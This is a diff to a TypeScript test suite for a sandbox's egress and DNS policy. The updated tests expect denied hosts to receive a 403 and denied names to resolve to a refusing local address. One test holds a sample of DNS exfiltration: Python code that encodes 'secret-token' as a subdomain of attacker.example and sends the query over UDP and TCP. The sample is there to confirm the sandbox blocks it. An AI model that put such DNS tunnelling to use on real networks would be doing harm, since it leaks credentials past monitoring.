@@ -88,11 +88,14 @@ describe(`transparent networking (${whoami})`, () => {
     expect(api.hits.at(-1)?.headers.authorization).toBe(`Bearer ${SECRET}`)
   })
 
-  it("Node's fetch of a host no rule allows fails", async () => {
+  it("Node's fetch of a host no rule allows gets hive's 403 naming method and path", async () => {
     const before = api.hits.length
-    const r = await run(['node', '-e', "fetch('https://pypi.org/simple/').then(() => process.exit(0), e => { console.error(String(e.cause ?? e)); process.exit(3) })"])
-    expect(r.exitCode).toBe(3)
-    expect(r.stderr).toMatch(/ENOTFOUND|EAI_AGAIN/)
+    const events = await eventsDuring('egress.request', async () => {
+      const r = await run(['node', '-e', "fetch('https://pypi.org/simple/').then(async r => console.log(r.status, await r.text()), e => { console.error(String(e.cause ?? e)); process.exit(3) })"])
+      expect(r.stderr).toBe('')
+      expect(r.stdout.trim()).toBe("403 hive: GET pypi.org/simple/ denied by this sandbox's egress policy (no rule matches host pypi.org)")
+    })
+    expect(events).toContainEqual(expect.objectContaining({ host: 'pypi.org', method: 'GET', path: '/simple/', scheme: 'https', access: 'denied', via: 'transparent' }))
     expect(api.hits.length).toBe(before)
   })
 
@@ -100,8 +103,8 @@ describe(`transparent networking (${whoami})`, () => {
     const ok = await run(['curl', '-sS', '--noproxy', '*', 'https://api.github.com/zen'])
     expect(ok.stdout).toBe('ok /zen')
     expect(api.hits.at(-1)?.headers.authorization).toBe(`Bearer ${SECRET}`)
-    const denied = await run(['curl', '-sS', '--noproxy', '*', '-m', '5', 'https://pypi.org/simple/'])
-    expect(denied.exitCode).toBe(6) // could not resolve host
+    const denied = await run(['curl', '-sS', '--noproxy', '*', '-m', '5', '-w', ' %{http_code}', 'https://pypi.org/simple/'])
+    expect(denied.stdout).toMatch(/^hive: GET pypi\.org\/simple\/ denied .* 403$/s)
   })
 
   it('Python requests with trust_env=False behaves the same', async () => {
@@ -109,32 +112,30 @@ describe(`transparent networking (${whoami})`, () => {
       `import os,requests\ns=requests.Session()\ns.trust_env=False\ntry:\n print(s.get("${url}", verify=os.environ["SSL_CERT_FILE"], timeout=5).text)\nexcept Exception as e:\n print("error", type(e).__name__)`
     expect((await py(code('https://api.github.com/zen'))).stdout.trim()).toBe('ok /zen')
     expect(api.hits.at(-1)?.headers.authorization).toBe(`Bearer ${SECRET}`)
-    expect((await py(code('https://pypi.org/simple/'))).stdout.trim()).toBe('error ConnectionError')
+    expect((await py(code('https://pypi.org/simple/'))).stdout.trim()).toMatch(/^hive: GET pypi\.org\/simple\/ denied/)
   })
 
-  it('a name no rule allows gets NXDOMAIN at once and a dns.query denied event', async () => {
+  it('a name no rule allows resolves at once to a refusing local address, with a dns.query denied event', async () => {
     let took = 0
     const events = await eventsDuring('dns.query', async () => {
       const started = Date.now()
-      const r = await run(['getent', 'hosts', 'evil.example'])
+      const r = await run(['getent', 'ahostsv4', 'evil.example'])
       took = Date.now() - started
-      expect(r.exitCode).toBe(2)
-      const gai = await py('import socket\ntry:\n socket.getaddrinfo("evil.example", 443)\nexcept socket.gaierror as e:\n print(e.errno == socket.EAI_NONAME)')
-      expect(gai.stdout.trim()).toBe('True')
+      expect(r.stdout).toMatch(/^127\.2\.\d+\.\d+ /)
     })
     expect(took).toBeLessThan(1000)
-    expect(events).toContainEqual(expect.objectContaining({ name: 'evil.example', access: 'denied' }))
+    expect(events).toContainEqual(expect.objectContaining({ host: 'evil.example', name: 'evil.example', access: 'denied' }))
   })
 
-  it('DNS exfiltration over UDP and TCP gets NXDOMAIN and reaches nothing', async () => {
+  it('DNS exfiltration over UDP and TCP gets only a local refusing address and reaches nothing', async () => {
     const query = `import socket,struct
 name="c2VjcmV0LXRva2Vu.attacker.example"
 q=struct.pack(">HHHHHH",0x1234,0x0100,1,0,0,0)+b"".join(bytes([len(l)])+l.encode() for l in name.split("."))+b"\\0"+struct.pack(">HH",1,1)
-u=socket.socket(socket.AF_INET,socket.SOCK_DGRAM);u.settimeout(2);u.sendto(q,("127.0.0.1",53));r=u.recv(512);print("udp",r[3]&15)
-t=socket.create_connection(("127.0.0.1",53),2);t.sendall(struct.pack(">H",len(q))+q);n=struct.unpack(">H",t.recv(2))[0];r=t.recv(n);print("tcp",r[3]&15)`
+u=socket.socket(socket.AF_INET,socket.SOCK_DGRAM);u.settimeout(2);u.sendto(q,("127.0.0.1",53));r=u.recv(512);print("udp",r[3]&15,".".join(map(str,r[-4:-2])))
+t=socket.create_connection(("127.0.0.1",53),2);t.sendall(struct.pack(">H",len(q))+q);n=struct.unpack(">H",t.recv(2))[0];r=t.recv(n);print("tcp",r[3]&15,".".join(map(str,r[-4:-2])))`
     const before = api.hits.length
     const events = await eventsDuring('dns.query', async () => {
-      expect((await py(query)).stdout).toBe('udp 3\ntcp 3\n')
+      expect((await py(query)).stdout).toBe('udp 0 127.2\ntcp 0 127.2\n')
     })
     expect(events.filter((e) => e.name === 'c2vjcmv0lxrva2vu.attacker.example' && e.access === 'denied')).toHaveLength(2)
     expect(api.hits.length).toBe(before)
@@ -193,12 +194,13 @@ for addr in [mapped,"192.0.2.1"]:
 
   it('after applyConfig allows a new host and port, its name resolves and its port is captured', async () => {
     const connect = `import socket\ntry:\n s=socket.create_connection(("late.example",${LATE_PORT}),5)\n s.sendall(b"late")\n print(s.recv(100).decode())\nexcept OSError as e:\n print("error", type(e).__name__)`
-    expect((await py(connect)).stdout.trim()).toBe('error gaierror')
+    // Denied: the name has a refusing address, and nothing listens on that port.
+    expect((await py(connect)).stdout.trim()).toBe('error ConnectionRefusedError')
     await sandbox.applyConfig(config([{ access: 'allow', host: 'late.example', ports: [LATE_PORT] }]))
     expect((await py(connect)).stdout.trim()).toBe('late')
-    // And back: the port stops being captured, the name stops resolving.
+    // And back: the port stops being captured, the name is denied again.
     await sandbox.applyConfig(config())
-    expect((await py(connect)).stdout.trim()).toBe('error gaierror')
+    expect((await py(connect)).stdout.trim()).toBe('error ConnectionRefusedError')
     const refused = await py(`import socket,errno\ntry:\n socket.create_connection(("127.1.0.9",${LATE_PORT}),2)\nexcept OSError as e:\n print(errno.errorcode.get(e.errno))`)
     expect(refused.stdout.trim()).toBe('ECONNREFUSED')
   })
